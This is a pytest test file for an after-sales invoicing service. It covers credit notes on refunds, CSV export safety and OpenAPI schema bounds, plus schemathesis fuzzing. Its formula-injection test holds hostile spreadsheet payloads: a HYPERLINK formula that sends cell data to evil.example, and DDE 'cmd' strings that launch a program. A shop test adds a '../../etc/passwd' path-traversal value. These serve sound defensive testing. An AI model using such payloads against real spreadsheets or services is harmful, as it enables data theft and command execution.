"""Invoices arrive with their order; each refund reverses its part with a credit note (红冲); the
export is safe to open in a spreadsheet. Last, the catalog's OpenAPI document (orders, shops,
service centers, stock, invoices) declares what its services refuse."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
import schemathesis
from hypothesis import HealthCheck, given, settings

from aftersales.catalog.models import InvoiceDocument
from aftersales.core.exports import csv_cell
from aftersales.core.sweep import sweep
from config.api import api as ninja_api
from config.wsgi import application
from tests.conftest import make_order, open_case, order_payload

INVOICE = {
    "number": "FP-0001",
    "amount": "180.00",
    "issued_at": "2026-11-20T10:00:00+08:00",
    "title": "某某科技有限公司",
}


@pytest.fixture
def invoiced(agent, order):
    assert agent.post("/orders", {**order_payload(order), "invoice": INVOICE}).status_code == 200
    return order


def refund_one_unit(customer, agent, finance, order, key):
    number = open_case(customer, order, kind="refund_only", reason="missing_item")["number"]
    agent.act(number, "approve")
    return finance.act(number, "refund", {"idempotency_key": key}).json()


def test_each_refund_issues_a_credit_note_against_the_invoice(customer, agent, finance, invoiced):
    first = refund_one_unit(customer, agent, finance, invoiced, "a")
    second = refund_one_unit(customer, agent, finance, invoiced, "b")
    notes = list(InvoiceDocument.objects.filter(kind="credit_note").order_by("id"))
    assert [(n.reference, n.amount, n.title) for n in notes] == [
        ("FP-0001", Decimal("-90.00"), "某某科技有限公司"),
        ("FP-0001", Decimal("-90.00"), "某某科技有限公司"),
    ]
    assert [n.case.number for n in notes] == [first["number"], second["number"]]
    assert notes[0].number == f"CN20261124{notes[0].id:06d}"
    assert first["events"][-1]["data"]["credit_note"] == notes[0].number
    # the invoice and its reversals add up to what was kept
    total = sum(InvoiceDocument.objects.values_list("amount", flat=True))
    assert total == Decimal("0.00")


def test_a_retried_refund_issues_no_second_note(customer, agent, finance, invoiced):
    number = open_case(customer, invoiced, kind="refund_only", reason="missing_item")["number"]
    agent.act(number, "approve")
    finance.act(number, "refund", {"idempotency_key": "same"})
    finance.act(number, "refund", {"idempotency_key": "same"})
    assert InvoiceDocument.objects.filter(kind="credit_note").count() == 1


def test_automatic_refunds_issue_credit_notes_too(customer, agent, invoiced, clock):
    number = open_case(customer, invoiced, reason="quality_issue")["number"]
    agent.act(number, "approve")
    customer.act(number, "ship_return", {"carrier": "SF", "tracking_number": "SF1"})
    clock.shift(days=10)
    sweep()
    note = InvoiceDocument.objects.get(kind="credit_note")
    assert (note.case.number, note.amount) == (number, Decimal("-90.00"))


def test_no_invoice_no_credit_note(customer, agent, finance, shop):
    order = make_order(external_id="NOINV")
    refund_one_unit(customer, agent, finance, order, "k")
    assert InvoiceDocument.objects.count() == 0


def test_the_accountant_lists_and_exports(customer, agent, finance, invoiced):
    refund_one_unit(customer, agent, finance, invoiced, "a")
    page = finance.get("/invoices", shop="shop").json()
    assert [(d["kind"], d["amount"]) for d in page["items"]] == [
        ("invoice", "180.00"),
        ("credit_note", "-90.00"),
    ]
    assert finance.get("/invoices", kind="credit_note").json()["items"][0]["reference"] == "FP-0001"
    response = finance.client.get("/api/v1/invoices/export.csv", {"shop": "shop"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [(r["kind"], r["amount"], r["reference"]) for r in rows] == [
        ("invoice", "180.00", ""),
        ("credit_note", "-90.00", "FP-0001"),
    ]
    # a customer sees the documents of their own orders
    assert len(customer.get("/invoices").json()["items"]) == 2


def test_an_invoice_is_one_per_order_and_updated(agent, invoiced):
    assert InvoiceDocument.objects.filter(kind="invoice").count() == 1
    doc = InvoiceDocument.objects.get(kind="invoice")
    assert (doc.number, doc.amount) == ("FP-0001", Decimal("180.00"))


def exported_rows(api) -> list[dict]:
    response = api.client.get("/api/v1/invoices/export.csv", {"shop": "shop"})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_export_defuses_cells_a_spreadsheet_would_run_as_formulas(
    customer, agent, finance, order
):
    # given an invoice whose title, number and note were written to run in a spreadsheet
    title = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
    invoice = {**INVOICE, "number": "+1+cmd|' /C calc'!A0", "title": title}
    assert agent.post("/orders", {**order_payload(order), "invoice": invoice}).status_code == 200
    refund_one_unit(customer, agent, finance, order, "a")
    InvoiceDocument.objects.filter(kind="invoice").update(note="@SUM(1+1)*cmd|' /C calc'!A0")
    InvoiceDocument.objects.filter(kind="credit_note").update(note="-2+3", title="\t=1+1")
    credit_note = InvoiceDocument.objects.get(kind="credit_note")

    # when
    rows = exported_rows(finance)

    # then text cells start with an apostrophe; the credit note's amount is still a number
    assert [(r["number"], r["title"], r["note"], r["amount"]) for r in rows] == [
        ("'+1+cmd|' /C calc'!A0", f"'{title}", "'@SUM(1+1)*cmd|' /C calc'!A0", "180.00"),
        (credit_note.number, "'\t=1+1", "'-2+3", "-90.00"),
    ]
    assert rows[1]["reference"] == "'+1+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-5", "'-5"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("某某科技有限公司", "某某科技有限公司"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (Decimal("-90.00"), Decimal("-90.00")),
        (-3, -3),
    ],
)
def test_a_csv_cell_is_text_made_safe_or_a_number_left_alone(value, cell):
    assert csv_cell(value) == cell
    assert type(csv_cell(value)) is type(cell)


def test_the_export_is_declared_as_csv_in_the_openapi_document(db):
    # given / when
    answer = ninja_api.get_openapi_schema()["paths"]["/api/v1/invoices/export.csv"]["get"]

    # then
    assert answer["responses"][200]["content"] == {"text/csv": {"schema": {"type": "string"}}}


def test_an_invoice_time_needs_its_time_zone(agent, order):
    # given an invoice issued at a local time without an offset
    invoice = {**INVOICE, "issued_at": "2026-11-20T10:00:00"}

    # when
    response = agent.post("/orders", {**order_payload(order), "invoice": invoice})

    # then
    assert (response.status_code, response.json()["code"]) == (422, "naive_datetime")
    assert InvoiceDocument.objects.count() == 0


# --- the OpenAPI document says what the services refuse ---------------------------------------


@pytest.fixture(scope="module")
def openapi():
    return ninja_api.get_openapi_schema()


def component(openapi, name):
    return openapi["components"]["schemas"][name]


def test_the_shop_body_declares_its_enums_patterns_and_lengths(openapi):
    shop = component(openapi, "ShopIn")["properties"]
    assert shop["preset"]["allOf"] == [{"$ref": "#/components/schemas/Platform"}]
    assert component(openapi, "Platform")["enum"] == [
        "generic",
        "taobao",
        "tmall",
        "jd",
        "pinduoduo",
        "douyin",
        "xianyu",
    ]
    assert shop["currency"]["pattern"] == "^[A-Z]{3}$"
    assert shop["timezone"]["pattern"] == r"^[A-Za-z][A-Za-z0-9_+-]*(/[A-Za-z0-9][A-Za-z0-9_+-]*)*$"
    assert (shop["timezone"]["minLength"], shop["timezone"]["maxLength"]) == (1, 64)
    assert "IANA" in shop["timezone"]["description"]
    assert shop["code"]["pattern"] == "^[a-z0-9][a-z0-9_-]{1,39}$"
    address = component(openapi, "ReturnAddressIn")["properties"]
    assert (address["address"]["minLength"], address["address"]["maxLength"]) == (1, 500)


def test_the_service_center_body_declares_its_kind_and_bounds(openapi):
    center = component(openapi, "ServiceCenterIn")["properties"]
    assert center["kind"]["enum"] == ["service_center", "supplier"]
    days = center["turnaround_days"]
    assert (days["type"], days["minimum"], days["maximum"]) == ("integer", 1, 90)


def test_amounts_are_decimal_text_or_whole_numbers_never_free_text(openapi):
    amount = {
        "anyOf": [
            {"type": "string", "pattern": r"^[0-9]{1,10}(\.[0-9]{1,2})?$"},
            {"type": "integer", "minimum": 0, "maximum": 9_999_999_999},
        ],
        "description": 'An amount of 0 or more with at most two decimals: "12.50".',
    }
    line = component(openapi, "OrderLineIn")["properties"]
    for field in (
        line["unit_price"],
        line["paid_amount"],
        component(openapi, "InvoiceIn")["properties"]["amount"],
        component(openapi, "OrderIn")["properties"]["shipping_fee"],
    ):
        assert {key: field[key] for key in ("anyOf", "description")} == amount


def test_the_stock_and_language_fields_declare_their_bounds(openapi):
    stock = component(openapi, "SkuStockIn")
    assert stock["required"] == ["stock"]
    assert stock["properties"]["stock"] | {"description": ""} == {
        "type": "integer",
        "minimum": 0,
        "maximum": 1_000_000_000,
        "title": "Stock",
        "description": "",
    }
    line_stock = component(openapi, "OrderLineIn")["properties"]["stock"]["anyOf"][0]
    assert line_stock == {"type": "integer", "minimum": 0, "maximum": 1_000_000_000}
    language = component(openapi, "CustomerIn")["properties"]["language"]["anyOf"][0]
    assert language == {"$ref": "#/components/schemas/CustomerLanguage"}
    assert component(openapi, "CustomerLanguage")["enum"] == ["zh-hans", "en"]


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("unit_price", ""),
        ("unit_price", "1e3"),
        ("unit_price", "-0"),
        ("paid_amount", "1.234"),
        ("paid_amount", " 5"),
        ("paid_amount", True),
    ],
)
def test_amounts_outside_the_documented_pattern_are_refused(agent, order, field, value):
    # when
    response = agent.post("/orders", order_payload(order, **{field: value}))

    # then
    assert (response.status_code, response.json()["code"]) == (422, "validation_error")
    assert order.lines.get().paid_amount == Decimal("180.00")


@pytest.mark.parametrize(
    "body",
    [
        {"code": "x1", "name": "n", "currency": "cny"},
        {"code": "x2", "name": "n", "timezone": "Asia Shanghai"},
        {"code": "x3", "name": "n", "timezone": "../../etc/passwd"},
    ],
)
def test_shops_outside_the_document_are_refused(admin, shop, body):
    response = admin.post("/shops", body)
    assert (response.status_code, response.json()["code"]) == (422, "validation_error")


def test_the_sku_operations_are_documented(openapi):
    paths = openapi["paths"]
    assert set(paths["/api/v1/skus/{code}"]) == {"get"}
    assert set(paths["/api/v1/skus/{code}/stock"]) == {"put"}
    answer = paths["/api/v1/skus/{code}/stock"]["put"]["responses"][200]
    assert answer["content"]["application/json"]["schema"] == {
        "$ref": "#/components/schemas/SkuOut"
    }


def test_an_order_whose_total_overflows_the_columns_is_refused(agent, shop):
    # given two lines each at the largest amount
    line = {"sku": "S", "title": "t", "quantity": 1, "unit_price": "1", "paid_amount": "9999999999"}
    body = {
        "shop": "shop",
        "external_id": "BIG",
        "customer": {"external_id": "C1"},
        "lines": [{**line, "external_id": "1"}, {**line, "external_id": "2"}],
    }

    # when
    response = agent.post("/orders", body)

    # then
    assert (response.status_code, response.json()["code"]) == (422, "amount_too_large")


# --- schema-valid catalog requests are never refused for their shape ---------------------------

FUZZ_SCHEMA = schemathesis.openapi.from_wsgi("/api/v1/openapi.json", application)
FUZZ_SCHEMA.config.generation.update(allow_x00=False)
SHAPE_CODES = frozenset(
    {
        "validation_error",
        "malformed_request",
        "invalid_input",
        "invalid_kind",
        "unknown_preset",
        "invalid_amount",
        "invalid_status",
        "invalid_product_flag",
        "invalid_stock",
        "invalid_language",
    }
)
FUZZING = settings(
    deadline=None,
    derandomize=True,  # the same examples every run
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def _refused_for_shape(response) -> bool:
    if response.status_code < 400:
        return False
    return response.status_code >= 500 or response.json()["code"] in SHAPE_CODES


@settings(FUZZING, max_examples=40)
@given(generated=FUZZ_SCHEMA["/api/v1/orders"]["POST"].as_strategy())
def test_valid_orders_are_never_refused_for_their_shape(generated, agent):
    # given an import the document allows, for the agent's shop
    body = generated.body
    for order in body if isinstance(body, list) else [body]:
        order["shop"] = "shop"

    # when
    response = agent.post("/orders", body)

    # then a refusal, if any, is a rule of the business, never the body's shape
    assert not _refused_for_shape(response), (body, response.content)


@settings(FUZZING, max_examples=30)
@given(generated=FUZZ_SCHEMA["/api/v1/shops"]["POST"].as_strategy())
def test_valid_shops_are_never_refused_for_their_shape(generated, admin):
    # when an installation administrator sends a shop the document allows
    response = admin.post("/shops", generated.body)

    # then a refusal, if any, is a rule of the business (a taken code, an unknown zone)
    assert not _refused_for_shape(response), (generated.body, response.content)


@settings(FUZZING, max_examples=30)
@given(
    center=FUZZ_SCHEMA["/api/v1/shops/{code}/service-centers"]["POST"].as_strategy(),
    stock=FUZZ_SCHEMA["/api/v1/skus/{code}/stock"]["PUT"].as_strategy(),
)
def test_valid_service_centers_and_stock_are_never_refused_for_their_shape(
    center, stock, admin, order
):
    # given bodies the document allows, for the shop and its SKU
    stock.body["shop"] = "shop"

    # when
    created = admin.post("/shops/shop/service-centers", center.body)
    stocked = admin.put("/skus/SKU-1/stock", stock.body)

    # then
    assert not _refused_for_shape(created), (center.body, created.content)
    assert not _refused_for_shape(stocked), (stock.body, stocked.content)
